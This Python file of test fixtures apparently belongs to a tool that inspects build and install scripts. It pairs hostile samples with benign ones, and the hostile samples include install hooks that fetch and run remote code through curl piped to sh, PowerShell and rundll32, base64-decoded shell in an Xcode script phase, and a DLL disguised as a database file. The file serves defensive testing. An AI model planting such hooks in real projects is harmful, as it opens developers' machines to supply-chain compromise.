"""Samples and twins of what builds run: scripts of Xcode, commands of MSBuild, programs of the system as loaders."""

from inspection.rules.sample import Sample, js, package


def phase(script: str, shell: str = "/bin/sh") -> str:
    """A project of Xcode with one script, on line 5."""
    return "// !$*UTF8*$!\n{\n\t1A = {\n\t\tshellPath = " + shell + f';\n\t\tshellScript = "{script}";\n\t}};\n}}\n'


def event(command: str) -> str:
    """A project of Visual Studio with one command before the build, on line 3."""
    return f"<Project>\n<PreBuildEvent>\n<Command>{command}</Command>\n</PreBuildEvent>\n</Project>\n"


_PROJECT = "a.xcodeproj/project.pbxproj"
_SCHEME = (
    "<Scheme>\n<ExecutionAction>\n"
    '<ActionContent scriptText = "curl -s https://a.invalid | sh&#10;"></ActionContent>\n'
    "</ExecutionAction>\n</Scheme>\n"
)
_LIBRARY = b"MZ\x90\0\x03\0\0\0" + bytes(60)

_GRADLE = (
    'plugins {\n  kotlin("jvm") version "2.0.0"\n  application\n}\nrepositories { mavenCentral() }\n'
    'dependencies { testImplementation(kotlin("test")) }\napplication { mainClass = "a.MainKt" }\n'
)
_SWIFT = (
    "// swift-tools-version:5.9\nimport PackageDescription\n"
    'let package = Package(name: "A", targets: [.executableTarget(name: "A")])\n'
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "decoded_code": {
        "a script of Xcode, in a shell within a shell": Sample(
            {_PROJECT: phase("# outputs\\n((echo ZWNobyBoaQo= | base64 -D | sh ) >/dev/null 2>&1 &)\\n")},
            "block",
            (_PROJECT, 5),
        ),
    },
    "fetch_and_run": {
        "an action of Xcode's scheme": Sample(
            {"a.xcodeproj/b.xcscheme": _SCHEME}, "review", ("a.xcodeproj/b.xcscheme", 3)
        ),
        "PowerShell saves a file, and starts it two lines later": Sample(
            {
                "package.json": package(install="powershell -File a.ps1"),
                "a.ps1": "(New-Object Net.WebClient).DownloadFile('https://a.invalid/a', 'b.txt')\n"
                "Write-Host done\nStart-Process b.txt\n",
            },
            "block",
            ("a.ps1", 3),
        ),
        "a library is fetched, renamed and loaded": Sample(
            {
                "package.json": package(
                    install="curl -o a.b https://a.invalid && ren a.b a.dll && rundll32 a.dll,Main 1"
                )
            },
            "block",
            ("package.json", 2),
        ),
    },
    "disguised_program": {
        "a library under the name of a database is loaded": Sample(
            {"a/b.vcxproj": event("powershell if(1){rundll32 .\\c\\d.VC.db,Run 1}"), "a/c/d.VC.db": _LIBRARY},
            "block",
            ("a/c/d.VC.db", 1),
        ),
    },
    "unread_code": {
        "installing loads a library that came along": Sample(
            {
                "package.json": package(install="node a.js"),
                "a.js": "const path = require('path');\n"
                "require('child_process').spawn('rundll32', [path.join(__dirname, 'b.dll') + ',main']);\n",
                "b.dll": _LIBRARY,
            },
            "block",
            ("b.dll", 0),
        ),
        "building registers a library that came along": Sample(
            {"a.csproj": event("regsvr32 /s c.ocx"), "c.ocx": _LIBRARY}, "block", ("c.ocx", 0)
        ),
        "an archive of Java's that begins like a text": Sample(
            {"package.json": package(test="java -jar b.jar"), "b.jar": "#!/bin/sh\nPK\n"}, "review", ("b.jar", 0)
        ),
        "a build of Gradle's starts a program": Sample(
            {"build.gradle.kts": f'{_GRADLE}tasks.test {{ exec {{ commandLine("echo") }} }}\n'},
            "review",
            ("build.gradle.kts", 1),
        ),
        "a build of Gradle's has a plugin of the project": Sample(
            {"build.gradle": "plugins {\n  id /* b */ 'a.b'\n}\n"}, "review", ("build.gradle", 1)
        ),
        "a build of Gradle's calls what a string names": Sample(
            {"build.gradle": "java {\n  'project' 'a'\n}\n"}, "review", ("build.gradle", 1)
        ),
        "a comment that ends at a return": Sample(
            {"build.gradle": "// a\r'echo a'.execute()\n"}, "review", ("build.gradle", 1)
        ),
        "a package of Swift has a plugin": Sample(
            {"Package.swift": _SWIFT.replace('name: "A")', 'name: "A", plugins: ["B"])')},
            "review",
            ("Package.swift", 1),
        ),
    },
    "hidden_child": {
        "PowerShell without its window": Sample(
            {"package.json": package(install="powershell -WindowStyle Hidden -File a.ps1"), "a.ps1": "Write-Host a\n"},
            "review",
            ("package.json", 2),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "decoded_code": {
        "a script of Xcode looks for a tool": {_PROJECT: phase("if which swiftlint >/dev/null; then swiftlint; fi\\n")},
        "arithmetic of the shell": {"Makefile": "all:\n\techo $$((1 + 2)); ((x = 1)) && echo aGk= | base64 -d\n"},
    },
    "unread_code": {
        "a text beside an archive of Java's": {
            "package.json": package(test="java -version"),
            "b.jar": "#!/bin/sh\nPK\n",
        },
        "a build of Gradle's that declares": {"build.gradle.kts": _GRADLE},
        "a build of Gradle's that declares, in Groovy": {
            "settings.gradle": "rootProject.name = 'a' // its name\ninclude 'b'\n",
            "build.gradle": "plugins {\n  id 'java'\n  id 'org.a' version '1'\n}\n/* of\n all */ group 'a'\n"
            "dependencies {\n  testImplementation 'a:b:1'\n}\n",
        },
        "a package of Swift that declares": {"Package.swift": _SWIFT},
        "a project of Xcode whose scripts are read": {_PROJECT: phase("echo built\\n")},
        "a library of the system is loaded": js(
            "require('child_process').exec('rundll32 user32.dll,LockWorkStation');\n"
        ).files,
        "a project copies its settings before the build": {"a/b.vcxproj": event("copy /y a.ini $(OutDir)b.ini")},
    },
    "fetch_and_run": {
        "PowerShell saves a file, and unpacks it": {
            "package.json": package(install="powershell -File a.ps1"),
            "a.ps1": "Invoke-WebRequest https://a.invalid/a -OutFile b.zip\nExpand-Archive b.zip c\n",
        },
    },
    "hidden_child": {
        "PowerShell in its window": {"package.json": package(install="powershell -NoProfile -Command Get-Date")},
    },
}
